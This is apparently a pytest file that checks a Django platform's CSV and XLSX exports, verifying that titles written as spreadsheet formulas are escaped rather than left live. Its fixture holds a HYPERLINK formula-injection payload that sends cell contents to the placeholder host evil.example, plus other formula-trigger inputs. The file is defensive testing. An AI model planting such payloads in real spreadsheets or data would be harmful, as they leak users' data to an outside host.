"""Issue 13 §1: a title that is a spreadsheet formula never becomes a live formula in any export.

Each of the platform's CSV/XLSX files is fetched the way its users get it, then read back the
way a spreadsheet would: no CSV cell may start with a formula trigger and no XLSX cell may be a
formula; amounts stay numbers.
"""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from agents.desk import delegation_exports
from fileformats.cells import is_dangerous, neutralise
from opendata import releases
from reports.exports import frame_to_csv, frames_to_xlsx
from reports.registry import INDICATORS
from tests.factories import ProjectFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.fixture
def evil_project(establishment_a):
    return ProjectFactory(establishment=establishment_a, acronym="@SUM(1+1)", title=EVIL)


def csv_cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_csv_safe(text: str, delimiter: str) -> None:
    cells = csv_cells(text, delimiter)
    assert "'" + EVIL in cells, "the title is still there, shown as text"
    live = [cell for cell in cells if is_dangerous(cell)]
    assert live == []


def assert_xlsx_safe(content: bytes) -> None:
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert EVIL in [c.value for c in cells], "the title is kept as a string cell"
    for cell in cells:
        if isinstance(cell.value, str) and is_dangerous(cell.value):
            assert cell.data_type == "s" and cell.quotePrefix


def test_release_files(client, releases_root, evil_project):
    releases.publish_release()
    assert_xlsx_safe(client.get("/donnees/latest/sirano.xlsx").getvalue())
    projects = client.get("/donnees/latest/projects.csv").getvalue().decode("utf-8")
    assert_csv_safe(projects, ",")
    row = next(csv.DictReader(io.StringIO(projects)))
    assert row["award_amount"] == "100000.00"
    sheet = load_workbook(releases_root / releases.latest_name() / "sirano.xlsx")["projets"]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=header.index("award_amount") + 1).value == 100000


def test_ministry_compatible_file(client, evil_project):
    raw = client.get("/donnees/sirano.csv").getvalue()
    assert_csv_safe(raw.decode("cp1252"), ";")
    frame = pd.read_csv(io.BytesIO(raw), sep=";", encoding="cp1252", dtype=str)
    assert frame.loc[0, "financement_total"] == "100000,00"


def test_directory_results_csv(client, evil_project):
    text = client.get("/projets/resultats.csv").getvalue().decode("utf-8-sig")
    assert_csv_safe(text, ";")


def test_api_csv(client, evil_project):
    text = client.get("/api/v1/projects/?format=csv").content.decode("utf-8-sig")
    assert_csv_safe(text, ",")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_exports(client, administrator, evil_project, fmt):
    client.force_login(administrator)
    response = client.get(f"/admin/snippets/workflows/project/?export={fmt}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        assert_csv_safe(content.decode("utf-8"), ",")
    else:
        assert_xlsx_safe(content)


def test_indicator_files_keep_text_as_text_and_numbers_as_numbers():
    ind = INDICATORS["late_milestones_by_establishment"]
    frame = pd.DataFrame([{c.name: (EVIL if c.kind == "text" else 3) for c in ind.columns}])
    assert_csv_safe(frame_to_csv(ind, frame).decode("utf-8-sig"), ";")
    content = frames_to_xlsx({ind.key: frame}, datetime.date(2026, 1, 1))
    assert_xlsx_safe(content)
    numbers = [c.value for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=5) for c in row]
    assert 3 in numbers


def test_delegation_tables():
    rows = [(EVIL, "690781810", "PHRC-2016-0001", 1, Decimal("-1500.50"))]
    text = delegation_exports.to_csv(rows).decode("utf-8-sig")
    assert_csv_safe(text, ";")
    assert "-1500,50" in csv_cells(text, ";"), "a negative amount is a number, not a formula"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "+33 1 23"),
        ("-1234,50", "-1234,50"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Cœur", "Cœur"),
        (12, 12),
        (None, None),
    ],
)
def test_rule(value, expected):
    assert neutralise(value) == expected
